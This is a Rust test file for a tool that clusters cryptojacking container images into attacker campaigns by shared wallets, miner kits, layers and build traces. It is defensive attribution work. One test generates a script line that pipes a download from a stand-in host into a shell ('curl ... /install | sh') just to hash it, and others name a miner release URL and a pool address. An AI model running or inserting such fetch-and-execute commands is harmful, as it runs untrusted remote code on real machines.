//! Ties and clusters, on made-up images that share what actors share.

mod common;

use std::collections::{BTreeMap, BTreeSet};

use common::{Draft, World};
use lazaret_hunt::graph::{Graph, ImageInput, Judged, Reason, Relation};
use lazaret_model::IndicatorKind::{self, *};
use lazaret_model::Role;
use proptest::prelude::*;

#[test]
fn ten_accounts_with_one_wallet_are_one_actor() {
    let mut world = World::default();
    for account in 0..10 {
        world.image(&format!("hub/a{account}"), "x").has(Wallet, "xmr:4a").seen();
    }
    assert_eq!(world.clustered(), [(0..10).collect::<Vec<_>>()]);
}

#[test]
fn two_actors_with_the_same_miner_kit_and_base_stay_two() {
    let mut world = World::default();
    for actor in ["hub/one", "hub/two"] {
        for name in ["mysql", "redis"] {
            world
                .image(actor, name)
                .on(&[1, 2, 3])
                .has(Wallet, &format!("xmr:{actor}"))
                .at(Layer, "kit", Some(1), 0)
                .at(ScriptHash, "start", Some(1), 11)
                .at(FuzzyHash, "script x", Some(1), 11)
                .at(ElfHash, "miner", Some(2), 12)
                .at(Layer, "miner", Some(2), 0)
                .seen();
        }
    }
    assert_eq!(world.clustered(), [vec![0, 1], vec![2, 3]]);
    let tied = world.graph.tied(0, 2);
    assert!(tied.bits < 16_000 && tied.bits > 0, "{tied:?}");
}

#[test]
fn a_wallet_of_donations_that_many_honest_miners_hold_ties_nobody() {
    let mut world = World::default();
    for honest in 0..20 {
        world.image(&format!("hub/h{honest}"), "miner").honest().has(Wallet, "xmr:donations").seen();
    }
    world.image("hub/a", "x").has(Wallet, "xmr:donations").seen();
    world.image("hub/b", "y").has(Wallet, "xmr:donations").seen();
    assert_eq!(world.clustered(), Vec::<Vec<u32>>::new());
}

#[test]
fn clean_images_with_the_wallet_under_a_few_accounts_do_not_dissolve_a_campaign() {
    let mut world = World::default();
    let first = world.image("hub/a", "x").has(Wallet, "xmr:4a").seen();
    let second = world.image("hub/b", "y").has(Wallet, "xmr:4a").seen();
    for decoy in 0..8 {
        world.image(&format!("hub/d{decoy}"), "clean").honest().has(Wallet, "xmr:4a").seen();
    }
    // As many as he likes under accounts that are known for it already.
    for decoy in 0..100 {
        world.image("hub/a", &format!("clean{decoy}")).honest().has(Wallet, "xmr:4a").seen();
    }
    assert_eq!(world.clustered(), [vec![first, second]]);
}

#[test]
fn tools_of_one_actor_are_not_made_common_by_his_own_many_accounts() {
    let mut world = World::default();
    for account in 0..40 {
        let account = format!("hub/a{account}");
        world.image(&account, "x").has(Wallet, "xmr:4a").has(BuilderTrace, "user dm").seen();
    }
    // Another account, without the wallet.
    world.image("hub/new", "y").has(BuilderTrace, "user dm").has(Host, "203.0.113.9").seen();
    world.image("hub/a1", "z").has(BuilderTrace, "user dm").has(Host, "203.0.113.9").seen();
    assert_eq!(world.clustered(), [(0..42).collect::<Vec<_>>()]);
}

#[test]
fn what_came_with_a_layer_of_innocent_images_ties_nobody() {
    let mut world = World::default();
    for (account, honest) in [("hub/a", false), ("hub/b", false), ("hub/base", true)] {
        let mut draft = world
            .image(account, "x")
            .on(&[7, account.len() as u64])
            .at(Layer, "seven", Some(0), 0)
            .at(ScriptHash, "start", Some(0), 5)
            .at(BuilderTrace, "user builder", Some(0), 0)
            .at(Environment, "MODE=x", Some(0), 0);
        if honest {
            draft = draft.honest();
        }
        draft.seen();
    }
    assert_eq!(world.clustered(), Vec::<Vec<u32>>::new());
    assert_eq!(world.graph.tied(0, 1).bits, 0);
}

#[test]
fn what_is_built_on_a_convicted_image_is_tied_to_it_and_what_shares_its_base_is_not() {
    let mut world = World::default();
    let lower = world.image("hub/a", "x").on(&[1, 2]).at(ScriptHash, "evil", Some(1), 4).named().seen();
    let upper = world.image("hub/b", "y").on(&[1, 2, 3]).at(ElfHash, "other", Some(2), 5).seen();
    world.image("hub/c", "z").on(&[1, 4]).at(ElfHash, "third", Some(1), 6).seen();
    // Nothing of its own but a command, and a file that nothing accuses: its layers are a base.
    world.image("hub/d", "w").on(&[1]).at(ScriptHash, "fine", Some(0), 9).seen();
    assert_eq!(world.clustered(), [vec![lower, upper]]);
    assert!(world.graph.tied(lower, upper).reasons.contains(&(Reason::BuiltOn { lower, upper }, 17_000)));
}

#[test]
fn a_file_that_lists_wallets_of_others_is_not_its_makers_purse() {
    let mut world = World::default();
    for rival in 0..12 {
        world.image(&format!("hub/r{rival}"), "x").has(Wallet, &format!("xmr:{rival}")).seen();
    }
    let mut hunter = world.image("hub/hunter", "kill");
    for rival in 0..12 {
        hunter = hunter.at(Wallet, &format!("xmr:{rival}"), None, 77);
    }
    hunter.seen();
    assert_eq!(world.clustered(), Vec::<Vec<u32>>::new());
}

#[test]
fn padding_a_list_does_not_hide_the_wallet_that_a_finding_names() {
    let mut world = World::default();
    let first = world.image("hub/a", "x").has(Wallet, "xmr:own").seen();
    let mut second = world.image("hub/b", "y").at(Wallet, "xmr:own", None, 77).named();
    for padding in 0..12 {
        second = second.at(Wallet, &format!("xmr:{padding}"), None, 77);
    }
    let second = second.seen();
    assert_eq!(world.clustered(), [vec![first, second]]);
}

#[test]
fn a_squashed_image_is_tied_by_what_its_files_share() {
    let mut world = World::default();
    let whole = world
        .image("hub/a", "x")
        .on(&[1, 2, 3])
        .at(Layer, "two", Some(1), 0)
        .at(ScriptHash, "agent", Some(1), 4)
        .has(BuilderTrace, "user dm")
        .seen();
    let squashed = world
        .image("hub/b", "y")
        .on(&[9])
        .at(Layer, "nine", Some(0), 0)
        .at(ScriptHash, "agent", Some(0), 4)
        .has(BuilderTrace, "user dm")
        .seen();
    assert_eq!(world.clustered(), [vec![whole, squashed]]);
}

#[test]
fn thousands_that_share_everything_end_in_bounded_time() {
    let mut world = World::default();
    for account in 0..3000 {
        let mut draft = world.image(&format!("hub/a{}", account % 20), &format!("x{account}"));
        for thing in 0..40 {
            draft = draft.at(ScriptHash, &format!("s{thing}"), None, thing);
        }
        draft.seen();
    }
    let begun = std::time::Instant::now();
    let clusters = world.clustered();
    // One account's images are tied; twenty accounts with nothing but tools in common stay twenty.
    assert_eq!(clusters.len(), 20);
    assert!(begun.elapsed().as_secs() < 20, "{:?}", begun.elapsed());
}

#[test]
fn a_refuted_indicator_and_a_refuted_pair_tie_nothing() {
    let mut world = World::default();
    for account in ["hub/a", "hub/b", "hub/c"] {
        world.image(account, "x").has(Wallet, "xmr:4a").has(SshKey, "k").seen();
    }
    let wallet = world.indicator(Wallet, "xmr:4a");
    world.graph.refute_indicator(wallet);
    world.graph.refute_pair("hub/a/x", "hub/b/x");
    // Both are tied to the third.
    assert_eq!(world.clustered(), [vec![0, 1, 2]]);
    let Relation::Path(path) = world.graph.why(0, 1) else { panic!("a way") };
    assert_eq!(path.iter().map(|edge| (edge.a, edge.b)).collect::<Vec<_>>(), [(0, 2), (1, 2)]);
    assert!(path.iter().all(|edge| edge.tied.reasons.len() == 1), "{path:?}");

    let mut world = World::default();
    for account in ["hub/a", "hub/b"] {
        world.image(account, "x").has(Wallet, "xmr:4a").seen();
    }
    world.graph.refute_pair("hub/b/x", "hub/a/x");
    assert_eq!(world.clustered(), Vec::<Vec<u32>>::new());
    assert!(matches!(world.graph.why(0, 1), Relation::Apart(tied) if tied.bits == 24_000));
}

#[test]
fn the_way_between_two_goes_over_the_strongest_ties() {
    let mut world = World::default();
    let a = world.image("hub/a", "x").has(Wallet, "xmr:1").has(PoolLogin, "weak.1").seen();
    let b = world.image("hub/b", "x").has(Wallet, "xmr:1").has(Wallet, "xmr:2").seen();
    let c = world.image("hub/c", "x").has(Wallet, "xmr:2").has(PoolLogin, "weak.2").seen();
    world.image("hub/d", "x").has(PoolLogin, "weak.1").has(PoolLogin, "weak.2").seen();
    world.clustered();
    let Relation::Path(path) = world.graph.why(a, c) else { panic!("a way") };
    assert_eq!(path.iter().map(|edge| (edge.a, edge.b)).collect::<Vec<_>>(), [(a, b), (b, c)]);
}

#[test]
fn an_unconvicted_image_with_a_members_wallet_or_layers_is_a_lead_and_no_member() {
    let mut world = World::default();
    let one = world.image("hub/a", "x").on(&[1, 2]).at(Wallet, "xmr:4a", Some(1), 3).named().seen();
    let two = world.image("hub/a", "y").has(Wallet, "xmr:4a").seen();
    let holder = world.image("hub/b", "z").honest().has(Wallet, "xmr:4a").seen();
    let upper = world.image("hub/c", "w").honest().on(&[1, 2, 3]).seen();
    let sibling = world.image("hub/a", "v").honest().seen();
    assert_eq!(world.clustered(), [vec![one, two]]);
    let leads: Vec<u32> = world.graph.leads(&[one, two]).into_iter().map(|(image, _)| image).collect();
    assert_eq!(leads, [holder]);
    assert_eq!(world.graph.built_on_members(&[one, two], &world.graph.above()), [(upper, one)]);
    assert_eq!(world.graph.of_its_publishers(&[one, two]), [sibling]);
}

#[test]
fn an_image_of_which_something_was_not_read_vouches_for_nothing() {
    let mut world = World::default();
    let first = world.image("hub/a", "x").has(Wallet, "xmr:4a").on(&[1, 2]).seen();
    let second = world.image("hub/b", "y").has(Wallet, "xmr:4a").on(&[3, 4]).seen();
    // As many as would end what the wallet says, had anybody looked at them.
    for decoy in 0..40 {
        world.image(&format!("hub/d{decoy}"), "x").unread().has(Wallet, "xmr:4a").seen();
    }
    // Nor do they make a layer anybody's base.
    for account in ["hub/c", "hub/c2"] {
        world
            .image(account, "z")
            .on(&[7, account.len() as u64])
            .at(ScriptHash, "agent", Some(0), 5)
            .at(BuilderTrace, "user dm", Some(0), 0)
            .at(BuilderTrace, "user dm", Some(1), 0)
            .at(Layer, account, Some(1), 0)
            .seen();
    }
    world.image("hub/d0", "base").unread().on(&[7]).at(ScriptHash, "agent", Some(0), 5).seen();
    let clusters = world.clustered();
    assert_eq!(clusters, [vec![first, second]]);
    assert!(
        world.graph.tied(42, 43).reasons.iter().any(|(reason, _)| matches!(reason, Reason::Indicator(_)))
    );
    let leads: Vec<u32> = world.graph.leads(&[first, second]).into_iter().map(|(image, _)| image).collect();
    assert_eq!(leads, (2..42).collect::<Vec<_>>(), "they are leads all the same");
}

#[test]
fn two_actors_who_fetch_from_one_public_place_stay_two() {
    let release = "https://github.com/xmrig/xmrig/releases/download/v6/xmrig.tar.gz";
    let mut world = World::default();
    for actor in ["hub/one", "hub/two", "hub/three"] {
        for name in ["mysql", "redis"] {
            world
                .image(actor, name)
                .has(Wallet, &format!("xmr:{actor}"))
                .has(Url, release)
                .has(Host, "github.com")
                .has(Host, "8.8.8.8")
                .has(Pool, "stratum+tcp://pool.supportxmr.com:3333")
                .has(PoolLogin, "YOUR_WALLET_ADDRESS")
                .at(ElfHash, "xmrig", None, 12)
                .at(ScriptHash, "setup", None, 13)
                .seen();
        }
    }
    assert_eq!(world.clustered(), [vec![0, 1], vec![2, 3], vec![4, 5]]);
}

#[test]
fn a_popular_base_with_one_malicious_child_drags_nobody_in() {
    let mut world = World::default();
    let on_base = |draft: Draft<'_>| -> u32 {
        draft
            .at(Wallet, "xmr:donations", Some(0), 3)
            .at(SshKey, "insecure", Some(0), 4)
            .at(Url, "https://app.example.test/update", Some(1), 5)
            .at(ScriptHash, "entrypoint", Some(1), 5)
            .at(BuilderTrace, "user maintainer", Some(1), 0)
            .at(Environment, "APP_MODE=x9", Some(1), 0)
            .seen()
    };
    on_base(world.image("hub/app", "app").honest().on(&[1, 2]));
    let child =
        on_base(world.image("hub/evil", "app").on(&[1, 2, 3]).at(ScriptHash, "evil", Some(2), 9).named());
    let other =
        on_base(world.image("hub/worse", "app").on(&[1, 2, 4]).at(ScriptHash, "worse", Some(2), 9).named());
    for user in 0..3 {
        on_base(world.image(&format!("hub/user{user}"), "app").honest().on(&[1, 2, 10 + user]));
    }
    assert_eq!(world.clustered(), Vec::<Vec<u32>>::new());
    assert_eq!(world.graph.tied(child, other).bits, 0, "{:?}", world.graph.tied(child, other));
    assert_eq!(world.graph.leads(&[child]), []);
    assert_eq!(world.graph.built_on_members(&[child], &world.graph.above()), []);
}

#[test]
fn a_wallet_in_a_layer_of_a_clean_image_ties_those_whose_findings_name_it() {
    let mut world = World::default();
    // A clean image beside it does not take a wallet from whom it pays.
    world.image("hub/decoy", "clean").honest().on(&[1, 2]).at(Wallet, "xmr:4a", Some(1), 3).seen();
    let one = world.image("hub/a", "x").on(&[1, 2, 3]).at(Wallet, "xmr:4a", Some(1), 3).named().seen();
    let two = world.image("hub/b", "y").on(&[1, 2, 4]).at(Wallet, "xmr:4a", Some(1), 3).named().seen();
    let by_layer = world.image("hub/c", "z").on(&[1, 2, 5]).at(Wallet, "xmr:4a", Some(1), 3).seen();
    assert_eq!(world.clustered(), [vec![one, two]]);
    assert!(world.graph.tied(one, by_layer).bits < 16_000);
}

#[test]
fn a_zone_a_user_and_a_variable_of_a_thousand_honest_images_tie_nobody_and_no_zone_ties_with_a_kit() {
    let mut world = World::default();
    for honest in 0..1000 {
        world
            .image(&format!("hub/h{honest}"), "x")
            .honest()
            .has(BuilderTrace, "zone +02:00")
            .has(BuilderTrace, "user u1001")
            .has(Environment, "NODE_OPTIONS_X=--max")
            .seen();
    }
    for actor in ["hub/one", "hub/two"] {
        world
            .image(actor, "x")
            .has(BuilderTrace, "zone +02:00")
            .has(BuilderTrace, "user u1001")
            .has(Environment, "NODE_OPTIONS_X=--max")
            .at(ScriptHash, "kit", None, 9)
            .seen();
    }
    for actor in ["hub/three", "hub/four"] {
        world.image(actor, "x").has(BuilderTrace, "zone +08:00").at(ScriptHash, "other kit", None, 9).seen();
    }
    assert_eq!(world.clustered(), Vec::<Vec<u32>>::new());
}

#[test]
fn an_actor_with_one_image_is_no_campaign_and_one_more_tag_is_none_either() {
    let mut world = World::default();
    world.image("hub/a", "x").has(Wallet, "xmr:4a").has(SshKey, "k").has(Host, "203.0.113.9").seen();
    world.image("hub/b", "x").has(Wallet, "xmr:4b").has(SshKey, "l").has(Host, "203.0.113.10").seen();
    assert_eq!(world.clustered(), Vec::<Vec<u32>>::new());
}

#[test]
fn a_mirror_of_samples_joins_actors_until_a_person_says_that_it_is_one() {
    let draw = |refuted: bool| {
        let mut world = World::default();
        for actor in ["hub/one", "hub/two"] {
            for account in [actor, "hub/researcher"] {
                world
                    .image(account, &actor.replace('/', "-"))
                    .has(Wallet, &format!("xmr:{actor}"))
                    .at(ElfHash, "xmrig", None, 12)
                    .seen();
            }
        }
        if refuted {
            world.graph.refute_account("hub/researcher");
        }
        world.clustered()
    };
    // One account with two purses and one miner is one maker, as far as anybody can tell.
    assert_eq!(draw(false), [vec![0, 1, 2, 3]]);
    assert_eq!(draw(true), [vec![0, 1], vec![2, 3]]);
}

#[test]
fn a_refuted_script_stays_refuted_when_another_variant_comes_to_stand_for_it() {
    let text = |target: &str| {
        let mut text = String::from("#!/bin/sh\nset -e\n");
        for step in 0..40 {
            text.push_str(&format!("echo preparing step {step} of the service && sleep {}\n", step * 7 % 11));
        }
        text.push_str(&format!("curl -fsS http://{target}/install | sh\n"));
        let hash = tlsh2::TlshDefaultBuilder::build_from(text.as_bytes()).expect("varied enough");
        format!("script {}", String::from_utf8_lossy(&hash.hash()))
    };
    let (one, other) = (text("a.invalid"), text("bb.example"));
    assert_ne!(one, other);
    let mut world = World::default();
    world.image("hub/a", "x").at(FuzzyHash, &one, None, 3).has(Host, "203.0.113.9").seen();
    world.image("hub/b", "y").at(FuzzyHash, &other, None, 3).has(Host, "203.0.113.9").seen();
    let refuted = world.indicator(FuzzyHash, &other);
    world.graph.refute_indicator(refuted);
    assert_eq!(world.clustered(), Vec::<Vec<u32>>::new());
    assert!(world.graph.is_refuted(refuted));
}

#[test]
fn a_campaign_of_thousands_is_told_in_bounded_time() {
    let mut world = World::default();
    for at in 0..12_000 {
        let draft = world.image(&format!("hub/a{}", at % 500), &format!("x{at}")).has(Wallet, "xmr:4a");
        draft.has(SshKey, "k").has(Url, "http://203.0.113.9/a").on(&[1, 2, at]).seen();
    }
    let clusters = world.clustered();
    assert_eq!(clusters.len(), 1);
    let begun = std::time::Instant::now();
    let ties = world.graph.ties(&clusters[0], 500);
    assert!(ties.len() >= 11_999);
    assert!(begun.elapsed().as_secs() < 10, "{:?}", begun.elapsed());
}

/// What a random image may hold.
const KINDS: [IndicatorKind; 11] =
    [Wallet, SshKey, PoolLogin, Url, Host, Layer, ScriptHash, ElfHash, BuilderTrace, Environment, Label];

type Links = Vec<(usize, u8, Option<u32>, u64, Role)>;

fn random_image() -> impl Strategy<Value = (u8, u8, Judged, Vec<u64>, Links)> {
    let role = prop_oneof![
        10 => Just(Role::Lies),
        1 => Just(Role::Mentioned),
        1 => Just(Role::Named),
        1 => Just(Role::Acts),
        1 => Just(Role::Suspected),
        3 => Just(Role::Harms),
    ];
    let link = (0..KINDS.len(), 0u8..4, prop::option::of(0u32..3), 0u64..6, role);
    (
        0u8..7,
        0u8..3,
        prop_oneof![7 => Just(Judged::Convicted), 2 => Just(Judged::Clean), 1 => Just(Judged::Unknown)],
        prop::collection::vec(0u64..5, 0..4),
        prop::collection::vec(link, 0..7),
    )
}

fn world_of(images: &[(u8, u8, Judged, Vec<u64>, Links)]) -> World {
    let mut world = World::default();
    for (kind, _) in KINDS.iter().zip(0..) {
        for value in 0..4 {
            world.indicator(*kind, &format!("{}{value}.invalid", kind.name()));
        }
    }
    world.graph.refute_pair("hub/0/r0", "hub/1/r0");
    world.graph.refute_pair("hub/0/r0", "hub/2/r1");
    world.graph.refute_account("hub/6");
    let refuted = world.indicator(Label, "label0.invalid");
    world.graph.refute_indicator(refuted);
    world.graph.trust_layer(4);
    for (at, (account, repository, judged, layers, links)) in images.iter().enumerate() {
        let mut draft = world.image(&format!("hub/{account}"), &format!("r{repository}")).on(layers);
        draft.input.name = at.to_string();
        draft.input.judged = *judged;
        for (kind, value, layer, place, role) in links {
            let kind = KINDS[*kind];
            draft = draft.at(kind, &format!("{}{value}.invalid", kind.name()), *layer, *place).is(*role);
        }
        draft.seen();
    }
    world
}

/// Clusters by the names of their images.
fn named(graph: &Graph, inputs: &[&ImageInput]) -> BTreeSet<BTreeSet<String>> {
    let name = |image: &u32| inputs[*image as usize].name.clone();
    graph.clusters().iter().map(|cluster| cluster.iter().map(name).collect()).collect()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

    #[test]
    fn adding_in_any_order_gives_what_clustering_all_gives(
        images in prop::collection::vec(random_image(), 1..40),
        order in prop::collection::vec(any::<u32>(), 40),
        batch in 0usize..40,
    ) {
        let mut all = world_of(&images);
        let inputs = std::mem::take(&mut all.inputs);
        for input in &inputs {
            all.graph.insert(input);
        }
        all.graph.cluster();
        let whole = named(&all.graph, &inputs.iter().collect::<Vec<_>>());

        let mut one_by_one = world_of(&images);
        let mut shuffled: Vec<&ImageInput> = inputs.iter().collect();
        let ranks: BTreeMap<&str, u32> =
            inputs.iter().zip(&order).map(|(input, rank)| (input.name.as_str(), *rank)).collect();
        shuffled.sort_by_key(|input| ranks[input.name.as_str()]);
        let (first, rest) = shuffled.split_at(batch.min(shuffled.len()));
        for input in first {
            one_by_one.graph.insert(input);
        }
        one_by_one.graph.cluster();
        for input in rest {
            one_by_one.graph.add(input);
        }
        prop_assert_eq!(named(&one_by_one.graph, &shuffled), whole);
    }

    #[test]
    fn every_cluster_hangs_together_by_ties_and_no_tie_leads_out_of_one(
        images in prop::collection::vec(random_image(), 1..30),
    ) {
        let mut world = world_of(&images);
        let clusters = world.clustered();
        let graph = &world.graph;
        for a in 0..graph.len() as u32 {
            for b in a + 1..graph.len() as u32 {
                let tied = graph.may_tie(a, b) && graph.tied(a, b).bits >= 16_000;
                prop_assert_eq!(graph.tied(a, b).bits, graph.tied(b, a).bits);
                prop_assert!(!tied || graph.cluster_of(a) == graph.cluster_of(b), "{a} {b}");
            }
        }
        for cluster in clusters {
            prop_assert_eq!(graph.ties(&cluster, 0).len(), cluster.len() - 1);
        }
    }
}
